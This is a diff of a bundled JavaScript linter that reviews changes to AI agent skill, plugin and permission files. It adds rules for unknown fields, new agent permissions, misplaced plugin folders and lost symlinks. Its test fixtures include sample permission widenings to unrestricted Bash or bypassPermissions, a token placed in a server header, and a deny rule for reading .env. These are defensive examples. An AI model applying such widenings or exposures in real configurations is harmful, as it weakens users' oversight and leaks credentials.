 	why: "No machine reports an unknown name, so the skill is not offered where it could run.",
 	howToFix: "Write `linux`, `macos` or `windows` under `os`, and `x86_64`, `aarch64` or `arm` under `arch`.",
 	source: "skill.toml contract, \"OS Values\" and \"Architecture Values\"",
-	enforces: [...lists.os.values.map((quote) => skillTomlContract(quote, "platform.os")), ...lists.arch.values.map((quote) => skillTomlContract(quote, "platform.arch"))],
+	enforces: [...lists$1.os.values.map((quote) => skillTomlContract(quote, "platform.os")), ...lists$1.arch.values.map((quote) => skillTomlContract(quote, "platform.arch"))],
 	invalid: withToml("[platform]\nos = [\"darwin\"]"),
 	valid: withToml("[platform]\nos = [\"macos\"]"),
 	*check({ manifest: { root } }) {
-		for (const [key, { noun, values, aliases }] of Object.entries(lists)) {
+		for (const [key, { noun, values, aliases }] of Object.entries(lists$1)) {
 			const known = values;
 			for (const value of items(get(get(root, "platform"), key))) {
 				const name = text$1(value);
@@ -32561,7 +35342,7 @@ const knownAgents = new Map([
 	["Explore", msg`may not edit files`],
 	["Plan", msg`may not edit files`]
 ]);
-const skill = (side, line) => oneSkill(`name: lfg\ndescription: Ships it.${line}`, "Ship it.\n", `${side}skills/lfg/SKILL.md`);
+const skill$2 = (side, line) => oneSkill(`name: lfg\ndescription: Ships it.${line}`, "Ship it.\n", `${side}skills/lfg/SKILL.md`);
 const implicitInvocationEnabled = powerRule({
 	id: "implicit-invocation-enabled",
 	summary: "Reports what now starts without a request of the user.",
@@ -32571,8 +35352,8 @@ const implicitInvocationEnabled = powerRule({
 	claims: ({ power }) => power.feature === "invocation" && power.kind === "auto",
 	phrase: "starts in more cases",
 	message: invocationMessage,
-	invalid: skill("before/", "\ndisable-model-invocation: true") + skill("after/", ""),
-	valid: skill("before/", "\ndisable-model-invocation: true") + skill("after/", "\ndisable-model-invocation: true\nuser-invocable: true")
+	invalid: skill$2("before/", "\ndisable-model-invocation: true") + skill$2("after/", ""),
+	valid: skill$2("before/", "\ndisable-model-invocation: true") + skill$2("after/", "\ndisable-model-invocation: true\nuser-invocable: true")
 });
 function invocationMessage(change) {
 	const { power, previous, limit } = change;
@@ -32865,7 +35646,7 @@ const permissionModeRaised = powerRule({
 	invalid: modeNow("bypassPermissions"),
 	valid: modeNow("default")
 });
-const command = (side, tools) => `-- ${side}/.claude/commands/ship.md --\n---\ndescription: Ships it.\nallowed-tools: ${tools}\n---\nShip it.\n`;
+const command$1 = (side, tools) => `-- ${side}/.claude/commands/ship.md --\n---\ndescription: Ships it.\nallowed-tools: ${tools}\n---\nShip it.\n`;
 const permissionRuleWidened = powerRule({
 	id: "permission-rule-widened",
 	summary: "Reports rules that allow more without asking.",
@@ -32876,8 +35657,8 @@ const permissionRuleWidened = powerRule({
 	phrase: "more is allowed without asking",
 	message: gainMessage,
 	notes: remarkNotes,
-	invalid: command("before", "Bash(git status)") + command("after", "Bash"),
-	valid: command("before", "Bash") + command("after", "Bash(git status)")
+	invalid: command$1("before", "Bash(git status)") + command$1("after", "Bash"),
+	valid: command$1("before", "Bash") + command$1("after", "Bash(git status)")
 });
 const docs = "\"type\": \"http\", \"url\": \"https://docs.example\"";
 const withHeaders = (headers) => serverFile("docs", `{${docs}}`, `{${docs}, "headers": ${headers}}`);
@@ -32894,6 +35675,19 @@ const secretExposed = powerRule({
 	notes: remarkNotes,
 	invalid: withHeaders("{\"Authorization\": \"${GITHUB_TOKEN}\"}"),
 	valid: withHeaders("{\"X-Team\": \"docs\"}")
+});
+const clientFieldUnknown = powerRule({
+	id: "client-field-unknown",
+	summary: "Reports new or changed fields that no known version of the client has.",
+	why: "A field of a newer client may grant something that no other rule knows.",
+	source: "Claude Code documentation, plugins reference.",
+	howToFix: "Look the field up in the documentation of the client, or remove it if it is a typo.",
+	claims: ({ power }) => power.feature === "unknown-field",
+	phrase: "an unknown field may grant something",
+	message: ({ power }) => power.remark === void 0 ? msg`Unknown field ${code$1(power.subject)} may grant something.` : msg`${pathPart(power.subject)} of another client changed, and may grant something.`,
+	help: () => msg`Look it up in the documentation of the client, or remove it.`,
+	invalid: hooksFile("{\"hooks\": {}}", "{\"hooks\": {}, \"autoload\": true}"),
+	valid: hooksFile("{\"hooks\": {}}", "{\"hooks\": {}, \"description\": \"None.\"}")
 });
 const sandbox = (more = "") => `{"sandbox": {"enabled": true${more}}}`;
 const withSandbox = (setting) => settingsFile(sandbox(), sandbox(`, ${setting}`));
@@ -32953,7 +35747,7 @@ const installAdded = powerRule({
 function isPinned({ pin }) {
 	return pin?.level === "digest" || pin?.level === "exact";
 }
-const sha = "8d1f6a3b5c7e9f0a1b2c3d4e5f60718293a4b5c6";
+const sha$1 = "8d1f6a3b5c7e9f0a1b2c3d4e5f60718293a4b5c6";
 const acmePlugins = (pin = "") => `{"extraKnownMarketplaces": {"acme": {"source": {"source": "github", "repo": "acme/plugins"${pin}}}}}`;
 const installUnpinned = powerRule({
 	id: "install-unpinned",
@@ -32967,9 +35761,9 @@ const installUnpinned = powerRule({
 	help: pinHelp,
 	notes: (change) => sourceAdded(change) ? [] : remarkNotes(change),
 	invalid: settingsFile("{}", acmePlugins()),
-	valid: settingsFile(acmePlugins(), acmePlugins(`, "ref": "${sha}"`))
+	valid: settingsFile(acmePlugins(), acmePlugins(`, "ref": "${sha$1}"`))
 });
-const pinned$2 = `"sha": "${sha}"`;
+const pinned$2 = `"sha": "${sha$1}"`;
 const githubPlugin = (pin) => `{"name": "p", "source": {"source": "github", "repo": "acme/p", ${pin}}}`;
 const sourcePinLost = powerRule({
 	id: "source-pin-lost",
@@ -33277,6 +36071,17 @@ const lockUnrecognised = problemRule({
 	invalid: lockOf$1(hashes.worklog).replace("content_hash", "hash") + worklog$1(),
 	valid: lockOf$1(hashes.worklog) + worklog$1()
 });
+const vendoredSkillClaimed = problemRule({
+	id: "vendored-skill-claimed",
+	category: "identity",
+	severity: "warning",
+	summary: "Reports new records that the repository\u2019s own skill was installed from elsewhere.",
+	why: "Breaks and removals of an installed skill ask for no version here. A record alone must not take a skill out of the check.",
+	source: "skills-lock.json, .skill-lock.json, apm.lock.yaml and the `metadata.github-*` that `gh skill install` writes: the source of a skill.",
+	howToFix: "Remove the record, or keep it if the skill is installed from that source.",
+	invalid: worklog$1(void 0, "before/.agents/") + installed(computed.worklog, "after/"),
+	valid: installed(computed.worklog, "before/") + installed(computed.worklog, "after/")
+});
 const vendoredSkillUpdated = problemRule({
 	id: "vendored-skill-updated",
 	category: "identity",
@@ -33291,21 +36096,22 @@ const vendoredSkillUpdated = problemRule({
 	valid: installed(computed.worklog, "before/") + installed(computed.worklog, "after/")
 });
 // src/rules/problem/permissions.ts
-const clientFieldUnknown = problemRule({
-	id: "client-field-unknown",
+const clientFieldChanged = problemRule({
+	id: "client-field-changed",
 	category: "privilege",
 	severity: "note",
-	summary: "Reports new or changed fields with an unknown effect in files that grant permissions.",
-	why: "A field of a newer client may grant something that no other rule knows.",
-	source: "Claude Code documentation, plugins reference.",
-	howToFix: "Look the field up in the documentation of the client, or remove it if it is a typo.",
-	invalid: hooksFile("{\"hooks\": {}}", "{\"hooks\": {}, \"autoload\": true}"),
-	valid: hooksFile("{\"hooks\": {}}", "{\"hooks\": {}, \"description\": \"None.\"}")
+	asksNothing: true,
+	summary: "Lists changed fields that grant nothing, in files that grant permissions.",
+	why: "No change of such a file is silent.",
+	source: "Claude Code documentation, settings.",
+	howToFix: "Nothing is to do.",
+	invalid: settingsFile("{\"cleanupPeriodDays\": 30}", "{\"cleanupPeriodDays\": 60}"),
+	valid: settingsFile("{\"cleanupPeriodDays\": 30}", "{ \"cleanupPeriodDays\":30 }")
 });
 const grantMalformed = problemRule({
 	id: "grant-malformed",
 	category: "privilege",
-	summary: "Reports changed files with permissions that cannot be read, and parts of them without effect.",
+	summary: "Reports files with permissions that cannot be read, and parts of them without effect.",
 	why: "A permission that cannot be read cannot be compared, and a limit without effect protects nobody.",
 	source: "Claude Code documentation, hooks and plugins reference.",
 	howToFix: "Correct the value that the message names.",
@@ -33314,7 +36120,7 @@ const grantMalformed = problemRule({
 });
 const newSkillPermissions = problemRule({
 	id: "new-skill-permissions",
-	topic: "new-skill",
+	topic: "new-unit",
 	category: "privilege",
 	severity: "note",
 	summary: "Reports the permissions of new skills.",
@@ -33339,6 +36145,21 @@ name: deploy
 description: Deploys the site.
 ---
 `
+});
+const pluginWith = (side, files = "") => `-- ${side}/p/.claude-plugin/plugin.json --\n{"name": "p", "version": "1.0.0"}\n${files}`;
+const agent$1 = (path) => `-- ${path} --\n---\nname: review\ndescription: Reviews a change.\n---\nReview it.\n`;
+const newUnitPermissions = problemRule({
+	id: "new-unit-permissions",
+	topic: "new-unit",
+	category: "privilege",
+	severity: "warning",
+	severityText: "warning; note for one without a program, every tool and anything that cannot be read",
+	summary: "Reports the permissions of new plugins, agents and commands.",
+	why: "After the merge, users of the repository have a plugin, an agent or a command with these permissions. An agent without a list of tools has every tool.",
+	source: "Claude Code documentation, sub-agents and plugins reference.",
+	howToFix: "Remove the permissions that it does not need; list the tools of an agent one by one.",
+	invalid: pluginWith("before") + pluginWith("after", agent$1("after/p/agents/review.md")),
+	valid: pluginWith("before", agent$1("before/p/agents/review.md")) + pluginWith("after", agent$1("after/p/agents/review-all.md"))
 });
 const toolsNow = (tools) => `
 ${worklogSkill("before/", "allowed-tools: !tools Read")}
@@ -34242,6 +37063,35 @@ const pinVersionUnmet = referenceRule({
 		};
 	}
 });
+// src/rules/repository/agent-skill-lost.ts
+const agent = (side) => `-- ${side}/.claude/agents/review.md --\n---\nname: review\ndescription: Reviews a change.\ntools: Read\nskills: [style]\n---\nReview it.\n`;
+const skill$1 = (side, name) => oneSkill(`name: ${name}\ndescription: Names things.`, "", `${side}/.claude/skills/${name}/SKILL.md`);
+const agentSkillLost = repositoryRule({
+	id: "agent-skill-lost",
+	category: "discovery",
+	severity: "note",
+	summary: "Reports agents that name a removed or renamed skill.",
+	why: "The agent starts without the instructions of the skill, and nobody gets a notice.",
+	source: "Claude Code documentation, sub-agents: `skills` loads skills into the context at startup.",
+	howToFix: "Remove the name from `skills` of the agent, or write the new one.",
+	invalid: agent("before") + skill$1("before", "style") + agent("after") + skill$1("after", "names"),
+	valid: agent("before") + skill$1("before", "style") + agent("after") + skill$1("after", "style"),
+	*check({ workspace, base }) {
+		if (!base) return;
+		const [known, now] = [namesOf$1(base), namesOf$1(workspace)];
+		for (const { feature, subject, scope, unit, at } of workspace.grants.files.flatMap(({ powers }) => powers)) {
+			if (feature !== "delegation" || subject !== "skills") continue;
+			if (!known.has(scope) || now.has(scope)) continue;
+			yield {
+				message: msg`Agent ${namePart(unit.name)} loads skill ${namePart(scope)}, which is gone.`,
+				help: msg`Remove the name, or write the new one.`,
+				at,
+				about: `${unit.root}\0${scope}`
+			};
+		}
+	}
+});
+const namesOf$1 = perWorkspace(({ skills }) => new Set(skills.map(({ name }) => name)));
 // src/rules/repository/client-files.ts
 const pdf$2 = oneSkill("name: pdf\ndescription: Fills PDF forms.");
 const settings = (path) => `${pdf$2}-- ${path} --\n{"permissions": {"deny": ["Read(.env)"]}}\n`;
@@ -34286,10 +37136,60 @@ const ignoreWithoutEffect = repositoryRule({
 		};
 	}
 });
+const misplaced = (folder) => `${pdf$2}-- p/.claude-plugin/plugin.json --
+{"name": "p", "version": "1.0.0", "description": "Writes notes."}
+-- p/${folder}agents/a.md --
+---
+name: a
+description: Writes notes.
+tools: Read
+---
+Writes notes.
+`;
+const clientPartUnread = repositoryRule({
+	id: "client-part-unread",
+	category: "discovery",
+	severity: "warning",
+	summary: "Reports parts of plugins in folders of manifests, and files in place of folders.",
+	why: "No client looks there. A link that a system without links committed is a file with its target as text.",
+	source: "Claude Code documentation, Plugins reference: the folder `.claude-plugin` holds the manifest, all other folders are at the root of the plugin.",
+	howToFix: "Move the part to the root of the plugin, or restore the folder.",
+	invalid: misplaced(".claude-plugin/"),
+	valid: misplaced(""),
+	*check({ workspace }) {
+		const reported = new Set();
+		for (const path of workspace.paths) {
+			const [, folder = "", part = ""] = manifestPart.exec(path) ?? [];
+			if (part === "" || reported.has(`${folder}${part}`) || isNamed(path, folder, workspace)) continue;
+			reported.add(`${folder}${part}`);
+			yield {
+				message: msg`No client looks for ${pathPart(part)} in ${pathPart(folder)}.`,
+				help: msg`Move it next to the folder.`,
+				at: { path },
+				about: `${folder}\0${part}`
+			};
+		}
+		const others = new Set([...workspace.links, ...workspace.submodules].map(({ path }) => path));
+		for (const path of workspace.paths) {
+			if (!partFolder.test(path) || others.has(path)) continue;
+			yield {
+				message: msg`${pathPart(path)} is a file. Clients find nothing in it.`,
+				help: msg`Make it a folder, or a symbolic link to one.`,
+				at: { path },
+				about: "file"
+			};
+		}
+	}
+});
+const manifestPart = /^((?:.*\/)?\.(?:claude|codex|cursor)-plugin)\/(skills|agents|commands|hooks|\.mcp\.json)(?:\/|$)/;
+const partFolder = /(?:^|\/)\.(?:agents|claude|codex|cursor|gemini|github|opencode)\/(?:skills|agents|commands)$/;
+function isNamed(path, folder, { grants }) {
+	return grants.offered.some(({ root }) => root === folder) || grants.files.some((file) => file.path === path && file.unit.kind !== "skill") || grants.skillFolders.some((named) => isAtOrInside(path, named.folder));
+}
 // src/rules/places/hook-scripts.ts
 function hookScript({ scope, unit }, file, workspace) {
 	if (toleratesAbsence.test(scope)) return null;
-	const written = firstScript(commandsOf$2(scope)[0] ?? []);
+	const written = firstScript(commandsOf$3(scope)[0] ?? []);
 	if (written === null) return null;
 	const variable = /^\$\{?(\w+)(?::-[^}]*)?\}?\/(.+)$/.exec(written);
 	const path = variable?.[2] ?? written;
@@ -34393,7 +37293,7 @@ function missingScript(power, { path, unit }, workspace) {
 	if (script === null || script.places.some((place) => mayExist(workspace, place))) return null;
 	const similar = similarFile(script.written, power, workspace);
 	const help = similar === null ? msg`Add the script, or correct the path.` : msg`Write the path of ${pathPart(similar)}.`;
-	const effect = power.subject === blockingEvent && isProgram(script.written, power) ? msg` It blocks nothing.` : nothing$2;
+	const effect = power.trigger.event === blockingEvent && isProgram(script.written, power) ? msg` It blocks nothing.` : nothing$2;
 	const message = msg`${msg`${code$1(power.subject)} hook fails: ${code$1(script.written)} does not exist.`}${effect}`;
 	const about = `${path}\0${power.subject}\0${script.written}`;
 	const skill = unit.kind === "skill" ? unit.root : void 0;
@@ -34424,13 +37324,204 @@ function stoppedScript({ feature, kind, scope, subject, runs, at }, { path, unit
 }
 const isWindowsScript = /\.(?:cmd|bat|exe|ps1)$/i;
 function isProgram(script, { scope }) {
-	return commandsOf$2(scope)[0]?.[0] === script;
+	return commandsOf$3(scope)[0]?.[0] === script;
 }
 function similarFile(written, { unit }, { paths }) {
 	const name = nameOf$3(written);
 	const prefix = unit.root === "" || unit.kind === "repository" ? "" : `${unit.root}/`;
 	const found = [...paths].filter((path) => path.startsWith(prefix) && nameOf$3(path) === name);
 	return found.length === 1 ? found[0] ?? null : null;
+}
+// src/rules/places/folders.ts
+const foldersOf$1 = perWorkspace(({ paths, listings: { externalPaths } }) => {
+	const skills = new Set([...paths].filter(isSkillFile).map(folderOf));
+	const skillAncestors = new Set([...skills].flatMap((path) => [...selfAndAncestors(path)]));
+	const all = new Set([""]);
+	for (const path of paths) for (const folder of selfAndAncestors(folderOf(path))) {
+		if (all.has(folder)) break;
+		all.add(folder);
+	}
+	const children = new Map();
+	const byName = new Map();
+	for (const folder of all) {
+		if (folder === "") continue;
+		appendTo(children, folderOf(folder), nameOf$3(folder));
+		appendTo(byName, nameOf$3(folder), folder);
+	}
+	return {
+		has: (path) => all.has(path),
+		within: (path) => children.get(path) ?? [],
+		named: (name) => byName.get(name) ?? [],
+		isSkill: (path) => skills.has(path),
+		holdsSkill: (path) => skillAncestors.has(path),
+		isElsewhere: (path) => [...selfAndAncestors(path)].some((ancestor) => externalPaths.has(ancestor))
+	};
+});
+function relativePath(base, path) {
+	if (path === base) return "./";
+	return isInside$2(path, base) ? join$2(".", path.slice(base === "" ? 0 : base.length + 1)) : void 0;
+}
+function isSkillFile(path) {
+	return nameOf$3(path).toLowerCase() === "skill.md";
+}
+function appendTo(lists, key, value) {
+	const list = lists.get(key);
+	if (list) list.push(value);
+	else lists.set(key, [value]);
+}
+// src/model/text/link-path.ts
+const maxLinks$1 = 40;
+const maxSegments = 256;
+function destinationOf(tree, folder, target) {
+	if (target === null) return { kind: "unknown" };
+	if (isAbsolute$2(target)) return { kind: "outside" };
+	let at = folder;
+	let remaining = target.split("/");
+	let hops = 0;
+	for (let budget = maxSegments; remaining.length > 0; budget--) {
+		if (budget === 0) return { kind: "nowhere" };
+		const [segment = "", ...more] = remaining;
+		remaining = more;
+		if (segment === "" || segment === ".") continue;
+		if (segment === "..") {
+			if (at === "") return { kind: "outside" };
+			at = folderOf(at);
+			continue;
+		}
+		const next = join$2(at, segment);
+		const link = tree.targets.get(next);
+		if (link === void 0) {
+			const end = endAt(tree, next, remaining);
+			if (end) return end;
+			at = next;
+			continue;
+		}
+		if (link === null) return { kind: "unknown" };
+		if (isAbsolute$2(link)) return { kind: "outside" };
+		if (++hops > maxLinks$1) return { kind: "nowhere" };
+		remaining = [...link.split("/"), ...remaining].slice(0, 257);
+	}
+	return {
+		kind: "folder",
+		path: at
+	};
+}
+function endAt(tree, path, remaining) {
+	if (tree.isFolder(path)) return null;
+	if (tree.submodules.has(path)) return {
+		kind: "submodule",
+		path
+	};
+	const isLast = remaining.every((segment) => segment === "" || segment === ".");
+	return tree.isFile(path) && isLast ? {
+		kind: "file",
+		path
+	} : { kind: "nowhere" };
+}
+function isAbsolute$2(target) {
+	return /^(?:[/\\]|[A-Za-z]:)/.test(target);
+}
+// src/rules/places/link-targets.ts
+const destinationsOf = perWorkspace((workspace) => {
+	const tree = linkedTree(workspace);
+	return (path, target) => destinationOf(tree, folderOf(path), target);
+});
+function linkedTree(workspace) {
+	const { links, paths, submodules } = workspace;
+	const folders = foldersOf$1(workspace);
+	return {
+		targets: new Map(links.map(({ path, target }) => [path, target])),
+		submodules: new Set(submodules.flatMap(({ path, isRead }) => isRead ? [] : [path])),
+		isFile: (path) => paths.has(path),
+		isFolder: (path) => folders.has(path)
+	};
+}
+// src/rules/places/skill-places.ts
+const skillPlacesOf = perWorkspace(({ skills }) => {
+	const byRoot = new Map(skills.map((skill) => [skill.root, skill]));
+	const counts = new Map();
+	for (const { root } of skills) for (const folder of selfAndAncestors(root)) counts.set(folder, (counts.get(folder) ?? 0) + 1);
+	const parents = new Set(skills.flatMap(({ root }) => folderOf(root) === "" ? [] : [folderOf(root)]));
+	return {
+		around: (path) => {
+			for (const folder of selfAndAncestors(folderOf(path))) {
+				const skill = byRoot.get(folder);
+				if (skill) return skill;
+			}
+		},
+		at: (path) => byRoot.get(path),
+		countIn: (path) => counts.get(path) ?? 0,
+		isLikely: (path) => {
+			const folder = folderOf(path);
+			const name = nameOf$3(path);
+			if (isForSkills(name) || isForSkills(nameOf$3(folder)) || parents.has(folder)) return true;
+			return agentFolders.has(name);
+		}
+	};
+});
+const agentFolders = new Set([
+	"agent",
+	"agents",
+	"claude",
+	"codex",
+	"copilot",
+	"cursor",
+	"gemini",
+	"github",
+	"opencode"
+].map((name) => `.${name}`));
+function isForSkills(name) {
+	return /^(?:.*[-_.])?skills$/i.test(name);
+}
+// src/rules/repository/link-lost.ts
+const skill = (side) => oneSkill("name: pdf\ndescription: Fills PDF forms.", "Fill it.\n", `${side}.agents/skills/pdf/SKILL.md`);
+const link = (path) => `-- ${path} (symlink) --\n../.agents/skills\n`;
+const linkLost = repositoryRule({
+	id: "link-lost",
+	category: "discovery",
+	severity: "warning",
+	summary: "Reports symbolic links that a change breaks, and skills that a client loses with one.",
+	why: "Whoever follows the link finds nothing. Git on Windows writes a link as a file with the path as its text; committed again, the client of that folder has no skill any more.",
+	source: "Git documentation, core.symlinks: \"symbolic links are checked out as small plain files\".",
+	howToFix: "Restore the link or its target, or remove the link with what needs it.",
+	invalid: `${skill("before/")}${link("before/.claude/skills")}${skill("after/")}-- after/.claude/skills --\n../.agents/skills\n`,
+	valid: skill("before/") + link("before/.claude/skills") + skill("after/") + link("after/.claude/skills"),
+	*check({ workspace, base }) {
+		if (!base || base.links.length === 0) return;
+		const now = new Map(workspace.links.map((each) => [each.path, each]));
+		for (const before of base.links) {
+			const { kind } = destinationsOf(base)(before.path, before.target);
+			if (kind !== "file" && kind !== "folder") continue;
+			const after = now.get(before.path);
+			const draft = after ? brokenDraft(after, workspace) : goneDraft(before, base, workspace);
+			if (draft) yield {
+				...draft,
+				about: before.path
+			};
+		}
+	}
+});
+function brokenDraft({ path, target }, head) {
+	if (target === null || destinationsOf(head)(path, target).kind !== "nowhere") return null;
+	return {
+		message: msg`Link ${pathPart(path)} leads nowhere: ${pathPart(target)} was removed.`,
+		help: msg`Remove the link, or restore its target.`,
+		at: { path }
+	};
+}
+function goneDraft({ path, target }, base, head) {
+	const to = destinationsOf(base)(path, target);
+	const isFile = head.paths.has(path);
+	const isFolder = foldersOf$1(head).has(path);
+	if (to.kind !== "folder" || isFolder || !skillPlacesOf(base).isLikely(path)) return null;
+	const lost = head.skills.filter(({ root }) => isAtOrInside(root, to.path));
+	if (lost.length === 0) return null;
+	const names = list(lost.map(({ name }) => namePart(name)));
+	return {
+		message: isFile ? msg`${pathPart(path)} was a link and is a file. Its client no longer finds ${names}.` : msg`Link ${pathPart(path)} was removed. Its client no longer finds ${names}.`,
+		help: isFile ? msg`Commit it as a link: set ${code$1("core.symlinks")} to true.` : void 0,
+		at: isFile ? { path } : inBaseOnly(path)
+	};
 }
 // src/model/lock.ts
 function digestKey(path, algorithm) {
@@ -34443,7 +37534,7 @@ const skillsByInstallLocation = memoize((skills) => groupBy(skills, ({ root }) =
 	return location ? installKey(location.home, location.folder) : "";
 }));
 const skillsByRoot = memoize((skills) => new Map(skills.map((skill) => [skill.root, skill])));
-const foldersOf$1 = memoize((paths) => new Set([...paths].map(folderOf)));
+const foldersOf = memoize((paths) => new Set([...paths].map(folderOf)));
 function createSkillLookup({ skills, pinnedDigests, paths }) {
 	return {
 		get byName() {
@@ -34457,7 +37548,7 @@ function createSkillLookup({ skills, pinnedDigests, paths }) {
 		},
 		pinnedDigests,
 		paths,
-		folders: () => foldersOf$1(paths)
+		folders: () => foldersOf(paths)
 	};
 }
 function installKey(home, folder) {
@@ -34529,10 +37620,10 @@ function targetsByPath({ byRoot, pinnedDigests, paths, folders }, pins) {
 	return targets;
 }
 function matchTargets(targets) {
-	const byKey = new Map(targets.map((target) => [keyOf$9(target), target]));
-	return (target) => byKey.get(keyOf$9(target)) ?? null;
+	const byKey = new Map(targets.map((target) => [keyOf$10(target), target]));
+	return (target) => byKey.get(keyOf$10(target)) ?? null;
 }
-function keyOf$9({ skill, pins: [pin] }) {
+function keyOf$10({ skill, pins: [pin] }) {
 	const scope = pin?.file === void 0 ? "whole" : "files";
 	return skill ? `${scope}\0${skill.root}` : `file\0${pin?.file ?? pin?.folder ?? ""}`;
 }
@@ -34567,7 +37658,7 @@ var LockTracking = class LockTracking {
 				lock,
 				entry
 			});
-			const key = keyOf$8(lock, entry.id);
+			const key = keyOf$9(lock, entry.id);
 			const sameKey = this.#untracked.get(key);
 			if (sameKey) sameKey.push({
 				lock,
@@ -34606,7 +37697,7 @@ var LockTracking = class LockTracking {
 			lock: predecessor,
 			entry
 		};
-		return (this.#untracked.get(keyOf$8(lock, id)) ?? []).find((candidate) => this.#haveSameTargets(candidate.lock, lock)) ?? this.#beforeBySharedFile(lock, id);
+		return (this.#untracked.get(keyOf$9(lock, id)) ?? []).find((candidate) => this.#haveSameTargets(candidate.lock, lock)) ?? this.#beforeBySharedFile(lock, id);
 	}
 	isTracked(entry) {
 		return this.#trackedEntries.has(entry);
@@ -34652,7 +37743,7 @@ function relocatedLocks(head, base) {
 		return before && before.path !== lock.path ? [[lock.path, before.path]] : [];
 	}));
 }
-function keyOf$8({ format }, id) {
+function keyOf$9({ format }, id) {
 	return `${format}\0${id}`;
 }
 function contentKey$1({ format, entries }) {
@@ -34878,113 +37969,9 @@ const lockRemoved = repositoryRule({
 		}
 	}
 });
-// src/rules/places/folders.ts
-const foldersOf = perWorkspace(({ paths, listings: { externalPaths } }) => {
-	const skills = new Set([...paths].filter(isSkillFile).map(folderOf));
-	const skillAncestors = new Set([...skills].flatMap((path) => [...selfAndAncestors(path)]));
-	const all = new Set([""]);
-	for (const path of paths) for (const folder of selfAndAncestors(folderOf(path))) {
-		if (all.has(folder)) break;
-		all.add(folder);
-	}
-	const children = new Map();
-	const byName = new Map();
-	for (const folder of all) {
-		if (folder === "") continue;
-		appendTo(children, folderOf(folder), nameOf$3(folder));
-		appendTo(byName, nameOf$3(folder), folder);
-	}
-	return {
-		has: (path) => all.has(path),
-		within: (path) => children.get(path) ?? [],
-		named: (name) => byName.get(name) ?? [],
-		isSkill: (path) => skills.has(path),
-		holdsSkill: (path) => skillAncestors.has(path),
-		isElsewhere: (path) => [...selfAndAncestors(path)].some((ancestor) => externalPaths.has(ancestor))
-	};
-});
-function relativePath(base, path) {
-	if (path === base) return "./";
-	return isInside$2(path, base) ? join$2(".", path.slice(base === "" ? 0 : base.length + 1)) : void 0;
-}
-function isSkillFile(path) {
-	return nameOf$3(path).toLowerCase() === "skill.md";
-}
-function appendTo(lists, key, value) {
-	const list = lists.get(key);
-	if (list) list.push(value);
-	else lists.set(key, [value]);
-}
-// src/model/text/link-path.ts
-const maxLinks$1 = 40;
-const maxSegments = 256;
-function destinationOf(tree, folder, target) {
-	if (target === null) return { kind: "unknown" };
-	if (isAbsolute$2(target)) return { kind: "outside" };
-	let at = folder;
-	let remaining = target.split("/");
-	let hops = 0;
-	for (let budget = maxSegments; remaining.length > 0; budget--) {
-		if (budget === 0) return { kind: "nowhere" };
-		const [segment = "", ...more] = remaining;
-		remaining = more;
-		if (segment === "" || segment === ".") continue;
-		if (segment === "..") {
-			if (at === "") return { kind: "outside" };
-			at = folderOf(at);
-			continue;
-		}
-		const next = join$2(at, segment);
-		const link = tree.targets.get(next);
-		if (link === void 0) {
-			const end = endAt(tree, next, remaining);
-			if (end) return end;
-			at = next;
-			continue;
-		}
-		if (link === null) return { kind: "unknown" };
-		if (isAbsolute$2(link)) return { kind: "outside" };
-		if (++hops > maxLinks$1) return { kind: "nowhere" };
-		remaining = [...link.split("/"), ...remaining].slice(0, 257);
-	}
-	return {
-		kind: "folder",
-		path: at
-	};
-}
-function endAt(tree, path, remaining) {
-	if (tree.isFolder(path)) return null;
-	if (tree.submodules.has(path)) return {
-		kind: "submodule",
-		path
-	};
-	const isLast = remaining.every((segment) => segment === "" || segment === ".");
-	return tree.isFile(path) && isLast ? {
-		kind: "file",
-		path
-	} : { kind: "nowhere" };
-}
-function isAbsolute$2(target) {
-	return /^(?:[/\\]|[A-Za-z]:)/.test(target);
-}
-// src/rules/places/link-targets.ts
-const destinationsOf = perWorkspace((workspace) => {
-	const tree = linkedTree(workspace);
-	return (path, target) => destinationOf(tree, folderOf(path), target);
-});
-function linkedTree(workspace) {
-	const { links, paths, submodules } = workspace;
-	const folders = foldersOf(workspace);
-	return {
-		targets: new Map(links.map(({ path, target }) => [path, target])),
-		submodules: new Set(submodules.flatMap(({ path, isRead }) => isRead ? [] : [path])),
-		isFile: (path) => paths.has(path),
-		isFolder: (path) => folders.has(path)
-	};
-}
 // src/rules/places/linked-folders.ts
 const linkedFoldersOf = perWorkspace((workspace) => {
-	const folders = foldersOf(workspace);
+	const folders = foldersOf$1(workspace);
 	const destination = destinationsOf(workspace);
 	const links = workspace.links.map(({ path, target }) => {
 		const to = destination(path, target);
@@ -35037,7 +38024,7 @@ function isAbsolute$1(path) {
 }
 const offersOf = perWorkspace((workspace) => {
 	if (workspace.listings.marketplaces.length === 0) return [];
-	const folders = foldersOf(workspace);
+	const folders = foldersOf$1(workspace);
 	const manifests = new Map(workspace.listings.plugins.map((manifest) => [manifest.root, manifest]));
 	const broken = new Set(workspace.listings.plugins.filter(({ problems }) => problems.length > 0).map(({ root }) => root));
 	return workspace.listings.marketplaces.flatMap((marketplace) => {
@@ -35087,7 +38074,7 @@ function createPathSearch(workspace) {
 const maxFolders = 2e3;
 function badSource(search, { root, pluginRoot }, name, { value, at }) {
 	const { workspace } = search;
-	const folders = foldersOf(workspace);
+	const folders = foldersOf$1(workspace);
 	const subject = sourceOf$1(name, value);
 	const invalid = (fault, certain, guess) => {
 		const suggestion = suggestionFor(root, certain, guess);
@@ -35117,7 +38104,7 @@ function badSource(search, { root, pluginRoot }, name, { value, at }) {
 function badPluginRoot(search, { root, pluginRoot }) {
 	if (pluginRoot === null) return null;
 	const { value, at } = pluginRoot;
-	const folders = foldersOf(search.workspace);
+	const folders = foldersOf$1(search.workspace);
 	const subject = msg`${code$1("pluginRoot")} ${pathPart(value)}`;
 	const invalid = (fault, guess) => {
 		const suggestion = suggestionFor(root, void 0, guess);
@@ -35137,7 +38124,7 @@ function badPluginRoot(search, { root, pluginRoot }) {
 }
 function badSkill(search, { root, marketplaceRoot, name }, { value, at }) {
 	const { workspace } = search;
-	const folders = foldersOf(workspace);
+	const folders = foldersOf$1(workspace);
 	const subject = msg`Skill ${pathPart(value)} of plugin ${namePart(name)}`;
 	const invalid = (fault, certain, guess) => {
 		const suggestion = suggestionFor(root, certain, guess);
@@ -35167,6 +38154,20 @@ function badSkill(search, { root, marketplaceRoot, name }, { value, at }) {
 	const guess = closest !== void 0 && folders.holdsSkill(closest) ? closest : void 0;
 	return invalid(doesNotExist, certain, guess);
 }
+function badPart({ workspace }, { root, name }, { kind, value, at }) {
+	const folders = foldersOf$1(workspace);
+	const target = value.startsWith("./") ? resolveWithin(root, value) : void 0;
+	if (target === void 0 || folders.has(target) || workspace.paths.has(target)) return null;
